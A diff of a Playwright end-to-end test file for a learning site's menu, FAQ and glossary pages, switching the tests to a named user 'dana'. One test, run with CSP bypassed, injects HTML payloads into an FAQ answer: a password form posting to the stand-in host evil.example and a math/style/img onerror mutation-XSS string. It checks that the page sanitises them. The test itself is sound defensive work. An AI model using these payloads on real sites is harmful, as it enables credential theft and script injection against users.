@@ -1,7 +1,7 @@
 import { expect, type Page } from "playwright/test";
 import { failureNames, failures } from "./answers.ts";
 import { choose, heading, openMenu, signIn } from "./journey.ts";
-import { test } from "./school.ts";
+import { dana, test } from "./school.ts";
 
 const search = (page: Page) => page.getByRole("searchbox", { name: "Search" });
 const terms = (page: Page) => page.getByRole("main").locator("dt > span:first-child");
@@ -19,9 +19,9 @@ const answerWith = (page: Page, answer: string) =>
     }),
   );
 
-test("the user menu leads to each of them", async ({ page, student }) => {
-  await signIn(page, student);
-  const menu = await openMenu(page, "Hello, Noa");
+test("the user menu leads to each of them", async ({ page }) => {
+  await signIn(page, dana);
+  const menu = await openMenu(page, "Hello, Dana");
   await expect(menu.getByRole("menuitem")).toContainText([
     "Profile",
     "FAQ",
@@ -35,7 +35,7 @@ test("the user menu leads to each of them", async ({ page, student }) => {
     ["Glossary", "/tls/glossary"],
     ["How to study", "/tls/how-to-study"],
   ] as const) {
-    await choose(page, "Hello, Noa", name);
+    await choose(page, "Hello, Dana", name);
     await expect(heading(page)).toHaveText(name);
     await expect(page).toHaveURL(new RegExp(`${address}$`));
     await expect(page).toHaveTitle(new RegExp(`^${name} · `));
@@ -43,34 +43,13 @@ test("the user menu leads to each of them", async ({ page, student }) => {
   }
 });
 
-test.describe("the questions", () => {
-  test("open and close their answers by keyboard", async ({ page, student }) => {
-    await signIn(page, student, "/tls/faq");
-    const question = page.getByRole("button", { name: "Why are some lessons closed?" });
-    await expect(question).toHaveAttribute("aria-expanded", "false");
-    await question.press("Enter");
-    await expect(question).toHaveAttribute("aria-expanded", "true");
-    const answer = page.getByText("Lessons open in order.");
-    await expect(answer).toBeVisible();
-    await question.press("Space");
-    await expect(answer).toHaveCount(0);
-  });
+test.describe("answers, even where no policy of the page stops them,", () => {
+  test.use({ bypassCSP: true });
 
-  test("are searched as one types, in the other language too", async ({ page, student }) => {
-    await signIn(page, student, "/tls/faq");
-    await search(page).fill("CLOSED lessons");
-    await expect(page.getByRole("status").getByText("1 result")).toBeVisible();
-    await expect(page.getByRole("button", { name: "Why are some lessons closed?" })).toBeVisible();
-    await search(page).fill("שיעורים סגורים");
-    await expect(page.getByRole("button", { name: "Why are some lessons closed?" })).toBeVisible();
-    await search(page).fill("qqq");
-    await expect(page.getByRole("status").getByText("Nothing found for “qqq”.")).toBeVisible();
-  });
-
-  test("take nothing harmful from an answer", async ({ page, student }) => {
+  test("take nothing harmful into the page", async ({ page }) => {
     const outside: string[] = [];
-    page.on("request", ({ url }) => {
-      if (url().includes("evil.example")) outside.push(url());
+    page.on("request", (request) => {
+      if (request.url().includes("evil.example")) outside.push(request.url());
     });
     await answerWith(
       page,
@@ -83,7 +62,7 @@ test.describe("the questions", () => {
        <form action="https://evil.example/"><input name="password"></form>
        <math><mi><style><img src=x onerror="document.title='harm'"></style></mi></math>`,
     );
-    await signIn(page, student, "/tls/faq");
+    await signIn(page, dana, "/tls/faq");
     // Searching reads the answer too.
     await search(page).fill("plain words");
     await page.getByRole("button", { name: "What is this?" }).click();
@@ -95,10 +74,35 @@ test.describe("the questions", () => {
     await expect(page).toHaveTitle(/^FAQ · /);
     expect(outside).toEqual([]);
   });
+});
 
-  test("are shown in what language there is, marked as such", async ({ page, student }) => {
+test.describe("the questions", () => {
+  test("open and close their answers by keyboard", async ({ page }) => {
+    await signIn(page, dana, "/tls/faq");
+    const question = page.getByRole("button", { name: "Why are some lessons closed?" });
+    await expect(question).toHaveAttribute("aria-expanded", "false");
+    await question.press("Enter");
+    await expect(question).toHaveAttribute("aria-expanded", "true");
+    const answer = page.getByText("Lessons open in order.");
+    await expect(answer).toBeVisible();
+    await question.press("Space");
+    await expect(answer).toHaveCount(0);
+  });
+
+  test("are searched as one types, in the other language too", async ({ page }) => {
+    await signIn(page, dana, "/tls/faq");
+    await search(page).fill("CLOSED lessons");
+    await expect(page.getByRole("status").getByText("1 result")).toBeVisible();
+    await expect(page.getByRole("button", { name: "Why are some lessons closed?" })).toBeVisible();
+    await search(page).fill("שיעורים סגורים");
+    await expect(page.getByRole("button", { name: "Why are some lessons closed?" })).toBeVisible();
+    await search(page).fill("qqq");
+    await expect(page.getByRole("status").getByText("Nothing found for “qqq”.")).toBeVisible();
+  });
+
+  test("are shown in what language there is, marked as such", async ({ page }) => {
     await answerWith(page, "<p>This</p>");
-    await signIn(page, student, "/tls/faq");
+    await signIn(page, dana, "/tls/faq");
     const hebrew = page.getByRole("button", { name: "מה זה?" });
     await expect(hebrew).toHaveAttribute("lang", "he");
     await expect(hebrew).toHaveAttribute("dir", "rtl");
@@ -107,9 +111,9 @@ test.describe("the questions", () => {
   });
 
   for (const name of failureNames) {
-    test(`say so for ${name}, and come at a new try`, async ({ page, student }) => {
+    test(`say so for ${name}, and come at a new try`, async ({ page }) => {
       await page.route("**/api/menu/faqs", failures[name]);
-      await signIn(page, student, "/tls/faq");
+      await signIn(page, dana, "/tls/faq");
       const main = page.getByRole("main");
       await expect(main.getByRole("alert")).toBeVisible();
       await page.unroute("**/api/menu/faqs");
@@ -123,9 +127,8 @@ test.describe("the questions", () => {
 test.describe("the glossary", () => {
   test("ignores accents and niqqud in a search, and ranks what starts so first", async ({
     page,
-    student,
   }) => {
-    await signIn(page, student, "/tls/glossary");
+    await signIn(page, dana, "/tls/glossary");
     await search(page).fill("מַחְסָר");
     await expect(terms(page).first()).toHaveText("dart");
     await search(page).fill("Dárt");
@@ -135,13 +138,13 @@ test.describe("the glossary", () => {
     await expect(page.getByRole("navigation", { name: "Letters" })).toHaveCount(0);
   });
 
-  test("fetches pictures as they come into sight", async ({ page, student }) => {
+  test("fetches pictures as they come into sight", async ({ page }) => {
     const fetched: string[] = [];
-    page.on("request", ({ url }) => {
-      const title = new URL(url()).searchParams.get("title");
-      if (url().includes("/glossary/fetchImage") && title) fetched.push(title);
+    page.on("request", (request) => {
+      const { pathname, searchParams } = new URL(request.url());
+      if (pathname.endsWith("/glossary/fetchImage")) fetched.push(searchParams.get("title") ?? "");
     });
-    await signIn(page, student, "/tls/glossary");
+    await signIn(page, dana, "/tls/glossary");
     await expect(page.getByRole("img", { name: "Picture: armscye" })).toBeVisible();
     expect(fetched).not.toContain("yoke.svg");
     const letters = page.getByRole("navigation", { name: "Letters" });
@@ -151,20 +154,20 @@ test.describe("the glossary", () => {
     expect(fetched).toContain("yoke.svg");
   });
 
-  test("opens at the term that the address names, in any case", async ({ page, student }) => {
-    await signIn(page, student, "/tls/glossary?term=TopStitching");
+  test("opens at the term that the address names, in any case", async ({ page }) => {
+    await signIn(page, dana, "/tls/glossary?term=TopStitching");
     const entry = page.locator("dt", { hasText: "topstitching" });
     await expect(entry).toBeInViewport();
     await expect(entry).toBeFocused();
   });
 
-  test("says that it does not have the term that the address names", async ({ page, student }) => {
-    await signIn(page, student, "/tls/glossary?term=flux");
+  test("says that it does not have the term that the address names", async ({ page }) => {
+    await signIn(page, dana, "/tls/glossary?term=flux");
     await expect(page.getByText("The glossary has no entry for “flux”.")).toBeVisible();
   });
 
-  test("is sorted and named in the interface's language", async ({ page, student }) => {
-    await signIn(page, student, "/tls/glossary");
+  test("is sorted and named in the interface's language", async ({ page }) => {
+    await signIn(page, dana, "/tls/glossary");
     await expect(terms(page).first()).toHaveText("armscye");
     await choose(page, "Language", "עברית");
     await expect(heading(page)).toHaveText("מילון מונחים");
@@ -174,8 +177,8 @@ test.describe("the glossary", () => {
   });
 });
 
-test("how to study is read in order, from a list of contents", async ({ page, student }) => {
-  await signIn(page, student, "/tls/how-to-study");
+test("how to study is read in order, from a list of contents", async ({ page }) => {
+  await signIn(page, dana, "/tls/how-to-study");
   const contents = page.getByRole("navigation", { name: "Contents" });
   const titles = await contents.getByRole("link").allTextContents();
   expect(titles[0]).toBe("Your first steps here");
